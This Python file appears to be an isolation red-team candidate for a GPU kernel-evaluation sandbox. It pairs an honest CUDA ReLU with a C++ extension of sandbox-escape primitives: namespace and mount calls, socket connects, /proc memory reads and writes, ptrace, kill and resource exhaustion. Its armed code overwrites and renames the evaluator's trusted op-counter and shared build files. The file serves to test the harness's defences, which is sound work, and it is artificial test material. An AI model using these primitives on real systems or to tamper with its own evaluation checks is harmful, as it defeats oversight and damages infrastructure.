"""Isolation attack #27 (EVAL_RULES.md): overwrite the trusted op counter and shared builds, on the GPU.

Finds the build cache's trusted dir (the op-counter extension sandbox/rules/opcount.py builds) and
shared tier (from the CACHE placeholder and its own `--shared` arguments), then natively truncates and
overwrites every `.so` and `.ok` there, renames them, and plants a file next to them. At
import and in forward, errors swallowed.
Otherwise an honest ReLU (the shared CUDA extension).
Inert unless the test substitutes its placeholders (RUN first).

Task: relu. Expected: valid (both tiers are read-only binds: every write fails), the files' sha256 are
unchanged, and an honest candidate judged next is valid with the op counter loaded."""

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

# --- shared CUDA extension (identical in every CUDA red-team candidate: one ~50 s compile in all)
_CUDA = r"""
#include <torch/extension.h>
#include <ATen/cuda/CUDAContext.h>
#include <cuda_runtime.h>

#define CHECK_CUDA_F32(t) TORCH_CHECK((t).is_cuda() && (t).scalar_type() == torch::kFloat32 && (t).is_contiguous(), #t " must be a contiguous float32 CUDA tensor")

__global__ void relu_vec4_kernel(const float4* __restrict__ x, float4* __restrict__ y, int64_t n4) {
    for (int64_t i = blockIdx.x * (int64_t)blockDim.x + threadIdx.x; i < n4; i += (int64_t)gridDim.x * blockDim.x) {
        float4 v = x[i];
        v.x = v.x < 0.f ? 0.f : v.x; v.y = v.y < 0.f ? 0.f : v.y;
        v.z = v.z < 0.f ? 0.f : v.z; v.w = v.w < 0.f ? 0.f : v.w;
        y[i] = v;
    }
}

__global__ void relu_scalar_kernel(const float* __restrict__ x, float* __restrict__ y, int64_t start, int64_t n) {
    for (int64_t i = start + blockIdx.x * (int64_t)blockDim.x + threadIdx.x; i < n; i += (int64_t)gridDim.x * blockDim.x) {
        const float v = x[i];
        y[i] = v < 0.f ? 0.f : v;
    }
}

static int grid_for(int64_t n, int threads) {
    int64_t g = (n + threads - 1) / threads;
    if (g > 65535 * 8) g = 65535 * 8;
    return (int)(g < 1 ? 1 : g);
}

void relu_into(torch::Tensor x, torch::Tensor out) {
    CHECK_CUDA_F32(x); CHECK_CUDA_F32(out);
    TORCH_CHECK(x.numel() == out.numel(), "relu_into: size mismatch");
    const int64_t n = x.numel();
    if (n == 0) return;
    auto stream = at::cuda::getCurrentCUDAStream();
    const float* xp = x.data_ptr<float>();
    float* yp = out.data_ptr<float>();
    int64_t done = 0;
    if ((reinterpret_cast<uintptr_t>(xp) % 16 == 0) && (reinterpret_cast<uintptr_t>(yp) % 16 == 0)) {
        const int64_t n4 = n / 4;
        if (n4 > 0)
            relu_vec4_kernel<<<grid_for(n4, 256), 256, 0, stream>>>(
                reinterpret_cast<const float4*>(xp), reinterpret_cast<float4*>(yp), n4);
        done = n4 * 4;
    }
    if (done < n) relu_scalar_kernel<<<grid_for(n - done, 256), 256, 0, stream>>>(xp, yp, done, n);
    C10_CUDA_KERNEL_LAUNCH_CHECK();
}

torch::Tensor relu_new(torch::Tensor x) {
    auto xc = x.contiguous();
    auto out = torch::empty_like(xc);
    relu_into(xc, out);
    return out;
}

// out[o, i] = sum_r x[o, r, i]; consecutive threads read consecutive i (coalesced).
__global__ void sum_mid_kernel(const float* __restrict__ x, float* __restrict__ y, int64_t outer, int64_t red, int64_t inner) {
    const int64_t idx = blockIdx.x * (int64_t)blockDim.x + threadIdx.x;
    if (idx >= outer * inner) return;
    const int64_t o = idx / inner, i = idx % inner;
    const float* p = x + o * red * inner + i;
    float acc = 0.f;
    for (int64_t r = 0; r < red; ++r) acc += p[r * inner];
    y[idx] = acc;
}

// inner == 1: one block per output, tree reduction in shared memory.
__global__ void sum_last_kernel(const float* __restrict__ x, float* __restrict__ y, int64_t red) {
    __shared__ float buf[256];
    const float* p = x + blockIdx.x * red;
    float acc = 0.f;
    for (int64_t r = threadIdx.x; r < red; r += blockDim.x) acc += p[r];
    buf[threadIdx.x] = acc;
    __syncthreads();
    for (int s = blockDim.x / 2; s > 0; s >>= 1) {
        if (threadIdx.x < s) buf[threadIdx.x] += buf[threadIdx.x + s];
        __syncthreads();
    }
    if (threadIdx.x == 0) y[blockIdx.x] = buf[0];
}

torch::Tensor sum_dim(torch::Tensor x, int64_t dim) {
    auto xc = x.contiguous();
    CHECK_CUDA_F32(xc);
    if (dim < 0) dim += xc.dim();
    int64_t outer = 1, inner = 1;
    for (int64_t d = 0; d < dim; ++d) outer *= xc.size(d);
    for (int64_t d = dim + 1; d < xc.dim(); ++d) inner *= xc.size(d);
    const int64_t red = xc.size(dim);
    std::vector<int64_t> shape;
    for (int64_t d = 0; d < xc.dim(); ++d) if (d != dim) shape.push_back(xc.size(d));
    auto out = torch::empty(shape, xc.options());
    auto stream = at::cuda::getCurrentCUDAStream();
    if (inner == 1) {
        if (outer > 0) sum_last_kernel<<<(unsigned)outer, 256, 0, stream>>>(xc.data_ptr<float>(), out.data_ptr<float>(), red);
    } else {
        const int64_t n = outer * inner;
        sum_mid_kernel<<<(unsigned)((n + 255) / 256), 256, 0, stream>>>(xc.data_ptr<float>(), out.data_ptr<float>(), outer, red, inner);
    }
    C10_CUDA_KERNEL_LAUNCH_CHECK();
    return out;
}

// C[M,N] = A[M,K] @ B[K,N] (b_trans: B given as [N,K]); 32x32 tiles in shared memory.
// Optional bias[N] and ReLU epilogue (the fused chain).
template <bool B_TRANS>
__global__ void gemm_tiled_kernel(const float* __restrict__ A, const float* __restrict__ B, const float* __restrict__ bias,
                                  float* __restrict__ C, int M, int N, int K, bool relu) {
    __shared__ float As[32][33];
    __shared__ float Bs[32][33];
    const int row = blockIdx.y * 32 + threadIdx.y;
    const int col = blockIdx.x * 32 + threadIdx.x;
    float acc = 0.f;
    for (int k0 = 0; k0 < K; k0 += 32) {
        const int ka = k0 + threadIdx.x;
        As[threadIdx.y][threadIdx.x] = (row < M && ka < K) ? A[(int64_t)row * K + ka] : 0.f;
        const int kb = k0 + threadIdx.y;
        float bv = 0.f;
        if (col < N && kb < K) bv = B_TRANS ? B[(int64_t)col * K + kb] : B[(int64_t)kb * N + col];
        Bs[threadIdx.y][threadIdx.x] = bv;
        __syncthreads();
#pragma unroll
        for (int k = 0; k < 32; ++k) acc += As[threadIdx.y][k] * Bs[k][threadIdx.x];
        __syncthreads();
    }
    if (row < M && col < N) {
        if (bias != nullptr) acc += bias[col];
        if (relu) acc = acc < 0.f ? 0.f : acc;
        C[(int64_t)row * N + col] = acc;
    }
}

torch::Tensor matmul_tiled(torch::Tensor a, torch::Tensor b) {
    auto ac = a.contiguous(); auto bc = b.contiguous();
    CHECK_CUDA_F32(ac); CHECK_CUDA_F32(bc);
    TORCH_CHECK(ac.dim() == 2 && bc.dim() == 2 && ac.size(1) == bc.size(0), "matmul_tiled: (M,K) @ (K,N)");
    const int M = ac.size(0), K = ac.size(1), N = bc.size(1);
    auto c = torch::empty({M, N}, ac.options());
    dim3 block(32, 32), grid((N + 31) / 32, (M + 31) / 32);
    gemm_tiled_kernel<false><<<grid, block, 0, at::cuda::getCurrentCUDAStream()>>>(
        ac.data_ptr<float>(), bc.data_ptr<float>(), nullptr, c.data_ptr<float>(), M, N, K, false);
    C10_CUDA_KERNEL_LAUNCH_CHECK();
    return c;
}

torch::Tensor linear_bias_relu(torch::Tensor x, torch::Tensor w, torch::Tensor bias) {
    auto xc = x.contiguous(); auto wc = w.contiguous(); auto bc = bias.contiguous();
    CHECK_CUDA_F32(xc); CHECK_CUDA_F32(wc); CHECK_CUDA_F32(bc);
    TORCH_CHECK(xc.size(1) == wc.size(1), "linear_bias_relu: in_features mismatch");
    const int M = xc.size(0), K = xc.size(1), N = wc.size(0);
    auto c = torch::empty({M, N}, xc.options());
    dim3 block(32, 32), grid((N + 31) / 32, (M + 31) / 32);
    gemm_tiled_kernel<true><<<grid, block, 0, at::cuda::getCurrentCUDAStream()>>>(
        xc.data_ptr<float>(), wc.data_ptr<float>(), bc.data_ptr<float>(), c.data_ptr<float>(), M, N, K, true);
    C10_CUDA_KERNEL_LAUNCH_CHECK();
    return c;
}

// Direct convolution, stride 1, zero padding: one thread per output element.
__global__ void conv2d_direct_kernel(const float* __restrict__ x, const float* __restrict__ w, const float* __restrict__ b,
                                     float* __restrict__ y, int N, int CI, int H, int W, int CO, int KH, int KW, int pad,
                                     int HO, int WO) {
    const int64_t idx = blockIdx.x * (int64_t)blockDim.x + threadIdx.x;
    const int64_t total = (int64_t)N * CO * HO * WO;
    if (idx >= total) return;
    const int ow = idx % WO, oh = (idx / WO) % HO, co = (idx / ((int64_t)WO * HO)) % CO;
    const int n = idx / ((int64_t)WO * HO * CO);
    float acc = b[co];
    for (int ci = 0; ci < CI; ++ci) {
        const float* xin = x + ((int64_t)n * CI + ci) * H * W;
        const float* wk = w + ((int64_t)co * CI + ci) * KH * KW;
        for (int kh = 0; kh < KH; ++kh) {
            const int ih = oh + kh - pad;
            if (ih < 0 || ih >= H) continue;
            for (int kw = 0; kw < KW; ++kw) {
                const int iw = ow + kw - pad;
                if (iw < 0 || iw >= W) continue;
                acc += xin[ih * W + iw] * wk[kh * KW + kw];
            }
        }
    }
    y[idx] = acc;
}

torch::Tensor conv2d_direct(torch::Tensor x, torch::Tensor w, torch::Tensor bias, int64_t pad) {
    auto xc = x.contiguous(); auto wc = w.contiguous(); auto bc = bias.contiguous();
    CHECK_CUDA_F32(xc); CHECK_CUDA_F32(wc); CHECK_CUDA_F32(bc);
    const int N = xc.size(0), CI = xc.size(1), H = xc.size(2), W = xc.size(3);
    const int CO = wc.size(0), KH = wc.size(2), KW = wc.size(3);
    const int HO = H + 2 * pad - KH + 1, WO = W + 2 * pad - KW + 1;
    auto y = torch::empty({N, CO, HO, WO}, xc.options());
    const int64_t total = (int64_t)N * CO * HO * WO;
    conv2d_direct_kernel<<<(unsigned)((total + 255) / 256), 256, 0, at::cuda::getCurrentCUDAStream()>>>(
        xc.data_ptr<float>(), wc.data_ptr<float>(), bc.data_ptr<float>(), y.data_ptr<float>(),
        N, CI, H, W, CO, KH, KW, (int)pad, HO, WO);
    C10_CUDA_KERNEL_LAUNCH_CHECK();
    return y;
}
"""

_DECLS = """
void relu_into(torch::Tensor x, torch::Tensor out);
torch::Tensor relu_new(torch::Tensor x);
torch::Tensor sum_dim(torch::Tensor x, int64_t dim);
torch::Tensor matmul_tiled(torch::Tensor a, torch::Tensor b);
torch::Tensor linear_bias_relu(torch::Tensor x, torch::Tensor w, torch::Tensor bias);
torch::Tensor conv2d_direct(torch::Tensor x, torch::Tensor w, torch::Tensor bias, int64_t pad);
"""

_cu = load_inline(
    name="redteam_cuda_lib",
    cpp_sources=_DECLS,
    cuda_sources=_CUDA,
    functions=["relu_into", "relu_new", "sum_dim", "matmul_tiled", "linear_bias_relu", "conv2d_direct"],
    extra_cuda_cflags=["-O3"],
    verbose=False,
)
# --- end of shared CUDA extension
_relu = _cu.relu_new

# --- shared attack extension (identical in every isolation red-team candidate, CPU and GPU: one compile)
_ESCAPE_CPP = r"""
#include <torch/extension.h>
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

// Every function returns what happened ("ok ..." or "ERR <call>: <strerror>") and never throws:
// a refused attack must leave the candidate running.
static std::string fail(const char* what) {
    return std::string("ERR ") + what + ": " + std::strerror(errno);
}

// printable ASCII only (NUL -> newline), so the string always converts to a Python str
static std::string printable(const char* p, size_t n) {
    std::string s;
    s.reserve(n);
    for (size_t i = 0; i < n; ++i) {
        const unsigned char c = (unsigned char)p[i];
        s += c == 0 ? '\n' : (c == '\n' || c == '\t' || (c >= 32 && c < 127)) ? (char)c : '?';
    }
    return s;
}

static std::string hex(const unsigned char* p, size_t n) {
    static const char* d = "0123456789abcdef";
    std::string s;
    for (size_t i = 0; i < n; ++i) { s += d[p[i] >> 4]; s += d[p[i] & 15]; }
    return s;
}

std::string write_file(std::string path, std::string text) {
    int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0) return fail("open");
    ssize_t n = ::write(fd, text.data(), text.size());
    int e = errno;
    ::close(fd);
    errno = e;
    return n == (ssize_t)text.size() ? "ok" : fail("write");
}

std::string rename_path(std::string from, std::string to) {
    return ::rename(from.c_str(), to.c_str()) == 0 ? "ok" : fail("rename");
}

std::string read_file(std::string path, int64_t max_bytes) {
    int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return fail("open");
    std::string buf((size_t)(max_bytes > 0 ? max_bytes : 1), '\0');
    size_t got = 0;
    while (got < buf.size()) {
        ssize_t n = ::read(fd, &buf[got], buf.size() - got);
        if (n < 0) { int e = errno; ::close(fd); errno = e; return fail("read"); }
        if (n == 0) break;
        got += (size_t)n;
    }
    ::close(fd);
    return printable(buf.data(), got);
}

std::vector<std::string> list_dir(std::string path) {
    std::vector<std::string> out;
    DIR* d = ::opendir(path.c_str());
    if (d == nullptr) return out;
    while (struct dirent* e = ::readdir(d)) {
        if (std::strcmp(e->d_name, ".") && std::strcmp(e->d_name, ".."))
            out.push_back(printable(e->d_name, std::strlen(e->d_name)));
    }
    ::closedir(d);
    return out;
}

std::string file_kind(std::string path) {
    struct stat st;
    if (::lstat(path.c_str(), &st) != 0) return fail("lstat");
    if (S_ISSOCK(st.st_mode)) return "sock";
    if (S_ISDIR(st.st_mode)) return "dir";
    if (S_ISREG(st.st_mode)) return "file";
    if (S_ISLNK(st.st_mode)) return "link";
    return "other";
}

std::string umount_path(std::string path, int64_t flags) {
    return ::umount2(path.c_str(), (int)flags) == 0 ? "ok" : fail("umount2");
}

std::string mount_fs(std::string source, std::string target, std::string fstype) {
    return ::mount(source.c_str(), target.c_str(), fstype.c_str(), 0, nullptr) == 0 ? "ok" : fail("mount");
}

std::string unshare_ns(int64_t flags) {
    return ::unshare((int)flags) == 0 ? "ok" : fail("unshare");
}

std::string setns_path(std::string path) {
    int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return fail("open");
    int rc = ::setns(fd, 0);
    int e = errno;
    ::close(fd);
    errno = e;
    return rc == 0 ? "ok" : fail("setns");
}

// Connect, send msg, wait up to 300 ms for an answer. "ok ..." means the peer accepted.
static std::string talk(int fd, const struct sockaddr* addr, socklen_t len, const std::string& msg) {
    struct timeval tv = {1, 0};
    ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    if (::connect(fd, addr, len) != 0) { int e = errno; ::close(fd); errno = e; return fail("connect"); }
    std::string out = "ok connected";
    if (!msg.empty()) {
        ssize_t n = ::send(fd, msg.data(), msg.size(), MSG_NOSIGNAL);
        out += n < 0 ? std::string(", send failed") : ", sent " + std::to_string(n);
    }
    struct pollfd p = {fd, POLLIN, 0};
    if (::poll(&p, 1, 300) > 0) {
        char buf[256];
        ssize_t n = ::recv(fd, buf, sizeof buf, MSG_DONTWAIT);
        if (n > 0) out += ", got: " + printable(buf, (size_t)n);
    }
    ::close(fd);
    return out;
}

// "@name" is an abstract socket
std::string connect_unix(std::string path, std::string msg) {
    int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) return fail("socket");
    struct sockaddr_un a;
    std::memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    socklen_t len;
    if (!path.empty() && path[0] == '@') {
        const size_t n = std::min(path.size() - 1, sizeof(a.sun_path) - 1);
        std::memcpy(a.sun_path + 1, path.data() + 1, n);
        len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
    } else {
        std::strncpy(a.sun_path, path.c_str(), sizeof(a.sun_path) - 1);
        len = (socklen_t)sizeof a;
    }
    return talk(fd, (struct sockaddr*)&a, len, msg);
}

std::string connect_tcp(std::string host, int64_t port, std::string msg) {
    int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) return fail("socket");
    struct sockaddr_in a;
    std::memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons((uint16_t)port);
    if (::inet_pton(AF_INET, host.c_str(), &a.sin_addr) != 1) { ::close(fd); return "ERR bad address"; }
    return talk(fd, (struct sockaddr*)&a, sizeof a, msg);
}

// /proc/<pid>/mem: read n bytes at addr ("ok <hex>")
std::string mem_read(int64_t pid, int64_t addr, int64_t n) {
    const std::string path = "/proc/" + std::to_string(pid) + "/mem";
    int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return fail("open mem");
    std::vector<unsigned char> buf((size_t)(n > 0 && n <= 4096 ? n : 16));
    ssize_t got = ::pread(fd, buf.data(), buf.size(), (off_t)addr);
    int e = errno;
    ::close(fd);
    errno = e;
    return got < 0 ? fail("pread mem") : "ok " + hex(buf.data(), (size_t)got);
}

// /proc/<pid>/mem: flip one byte at addr (the corruption form)
std::string mem_flip(int64_t pid, int64_t addr) {
    const std::string path = "/proc/" + std::to_string(pid) + "/mem";
    int fd = ::open(path.c_str(), O_RDWR | O_CLOEXEC);
    if (fd < 0) return fail("open mem rw");
    unsigned char b = 0;
    if (::pread(fd, &b, 1, (off_t)addr) != 1) { int e = errno; ::close(fd); errno = e; return fail("pread mem"); }
    b ^= 0xff;
    ssize_t w = ::pwrite(fd, &b, 1, (off_t)addr);
    int e = errno;
    ::close(fd);
    errno = e;
    return w == 1 ? "ok flipped" : fail("pwrite mem");
}

std::string vm_read(int64_t pid, int64_t addr) {
    unsigned char b[16];
    struct iovec local = {b, sizeof b}, remote = {(void*)(uintptr_t)addr, sizeof b};
    ssize_t n = ::process_vm_readv((pid_t)pid, &local, 1, &remote, 1, 0);
    return n < 0 ? fail("process_vm_readv") : "ok " + hex(b, (size_t)n);
}

std::string ptrace_attach(int64_t pid) {
    if (::ptrace(PTRACE_ATTACH, (pid_t)pid, nullptr, nullptr) != 0) return fail("ptrace");
    ::ptrace(PTRACE_DETACH, (pid_t)pid, nullptr, nullptr);
    return "ok attached";
}

std::string kill_pid(int64_t pid, int64_t sig) {
    return ::kill((pid_t)pid, (int)sig) == 0 ? "ok" : fail("kill");
}

// Write `bytes` of data into `path` (tmpfs pages are allocated by the writes). Left in place.
std::string fill_file(std::string path, int64_t bytes) {
    int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (fd < 0) return fail("open");
    std::vector<char> chunk(16 << 20, 'Z');
    int64_t done = 0;
    std::string why;
    while (done < bytes) {
        const size_t want = (size_t)std::min<int64_t>((int64_t)chunk.size(), bytes - done);
        ssize_t n = ::write(fd, chunk.data(), want);
        if (n <= 0) { why = fail("write"); break; }
        done += n;
    }
    ::close(fd);
    return "wrote " + std::to_string(done) + (why.empty() ? "" : " " + why);
}

std::string memfd_fill(int64_t bytes) {
    int fd = (int)::syscall(SYS_memfd_create, "kh-redteam", 0);
    if (fd < 0) return fail("memfd_create");
    int rc = ::ftruncate(fd, (off_t)bytes);
    return rc == 0 ? "ok memfd of " + std::to_string(bytes) : fail("ftruncate");  // fd kept open on purpose
}

std::string shm_fill(int64_t bytes) {
    int id = ::shmget(IPC_PRIVATE, (size_t)bytes, IPC_CREAT | 0600);
    if (id < 0) return fail("shmget");
    void* p = ::shmat(id, nullptr, 0);
    if (p == (void*)-1) return fail("shmat");
    std::memset(p, 'Z', (size_t)bytes);
    return "ok shm segment of " + std::to_string(bytes);
}
"""

_esc = load_inline(
    name="redteam_escape_lib",
    cpp_sources=_ESCAPE_CPP,
    functions=[
        "write_file",
        "rename_path",
        "read_file",
        "list_dir",
        "file_kind",
        "umount_path",
        "mount_fs",
        "unshare_ns",
        "setns_path",
        "connect_unix",
        "connect_tcp",
        "mem_read",
        "mem_flip",
        "vm_read",
        "ptrace_attach",
        "kill_pid",
        "fill_file",
        "memfd_fill",
        "shm_fill",
    ],
    extra_cflags=["-O2"],
    verbose=False,
)
# --- end of shared attack extension

RUN = "__RUN__"  # the test puts a unique id here; left as it is, every attack below stays off
ARMED = not RUN.startswith("__")
_found: list[str] = []  # what got through; forward raises it, so it reaches the verdict's logs


def _note(what: str, result: str) -> str:
    print(f"[redteam {RUN}] {what}: {result}", flush=True)
    return result


def _attempt(when: str) -> None:
    try:
        _attack(when)
    except BaseException as e:  # noqa: BLE001 - a refused attack must not stop the kernel
        _note(f"{when}: the attack raised", repr(e))


FORWARD_ATTACKS = 1
CACHE = "__CACHE__"  # the build cache root; an attacker reads it off its own command line too


def _tiers() -> list[str]:
    tiers = [f"{CACHE}/trusted", f"{CACHE}/shared"] if ARMED else []
    argv = _esc.read_file("/proc/self/cmdline", 1 << 16).split("\n")
    tiers += [argv[i + 1] for i, a in enumerate(argv[:-1]) if a == "--shared"]
    return list(dict.fromkeys(tiers))


def _attack(when: str) -> None:
    for tier in _tiers():
        for build in _esc.list_dir(tier):
            d = f"{tier}/{build}"
            if _esc.file_kind(d) != "dir":
                continue
            _note(f"{when}: plant in {d}", _esc.write_file(f"{d}/.kh-redteam-{RUN}", "planted\n"))
            for name in _esc.list_dir(d):
                if name.endswith(".so") or name == ".ok":
                    p = f"{d}/{name}"
                    if _note(f"{when}: overwrite {p}", _esc.write_file(p, "\x7fELF pwned by the candidate\n")) == "ok":
                        _found.append(f"{when}: overwrote {p}")
                    if _note(f"{when}: rename {p}", _esc.rename_path(p, f"{p}.kh-redteam-{RUN}")) == "ok":
                        _found.append(f"{when}: moved {p}")


if ARMED:
    _attempt("import")


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.calls = 0

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        self.calls += 1
        if ARMED and self.calls <= FORWARD_ATTACKS:
            _attempt(f"forward {self.calls}")
        if _found:
            raise RuntimeError("the attack got through: " + " | ".join(_found))
        return _relu(x)
